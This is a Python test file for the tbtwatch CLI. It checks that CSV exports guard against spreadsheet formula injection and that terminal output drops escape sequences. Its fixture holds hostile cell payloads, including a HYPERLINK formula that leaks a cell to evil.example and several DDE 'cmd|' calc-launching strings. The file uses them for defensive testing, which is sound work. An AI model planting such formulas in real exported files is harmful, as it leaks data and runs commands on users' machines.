"""CLI output of crawled text: spreadsheets and terminals get data, never formulas or escape sequences.

Real commands (``tbtwatch import``, ``export``, ``show``, ``search``) through Typer's runner on a real
SQLite archive, with a notice whose every text field is hostile. Proved: the CLI's CSV export guards every
cell a spreadsheet would run (``=HYPERLINK``, ``+cmd|``, ``-``, ``@SUM``) exactly as the web export does -
one writer for both; every text field is cleaned of control characters at the model; ``show`` and
``search`` print no escape sequence, carriage return or forged line from the notice.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from commands.cli import app
from tbtwatch.settings import get_settings

pytestmark = pytest.mark.timeout(60)

FORMULAS = {"title": '=HYPERLINK("http://evil.example/?leak="&A1,"Battery rules")',
            "products": "+cmd|' /C calc'!A0 batteries", "description": "@SUM(1+1)*cmd|' /C calc'!A0",
            "member": "-2+3+cmd|' /C calc'!A0"}
RUNNABLE = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def archive(home, tmp_path):
    notice = {"symbol": "G/TBT/N/EU/777", "distribution_date": "2026-03-02", **FORMULAS,
              "objectives": ["=1+1"], "hs_codes": ["8507"]}
    path = tmp_path / "hostile.jsonl"
    path.write_text(json.dumps(notice) + "\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["import", str(path)])
    assert result.exit_code == 0, result.output
    return get_settings()


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_cli_csv_export_guards_every_formula_cell_as_the_web_export_does(archive, tmp_path):
    target = tmp_path / "notices.csv"
    result = CliRunner().invoke(app, ["export", "--format", "csv", "-o", str(target)])
    assert result.exit_code == 0, result.output
    [row] = cells(target.read_text(encoding="utf-8"))
    unguarded = {k: v for k, v in row.items() if v.startswith(RUNNABLE)}
    assert unguarded == {}, unguarded
    for name, value in FORMULAS.items():
        assert row[name] == "'" + value  # guarded, and otherwise the text as notified
    assert row["objectives"] == "'=1+1"

    from webapp.app import create_app

    with TestClient(create_app(archive), base_url="http://127.0.0.1") as client:
        [web_row] = cells(client.get("/api/search", params={"format": "csv"}).text)
    assert {k: web_row[k] for k in row} == row  # one writer: the same cells from the CLI and the web
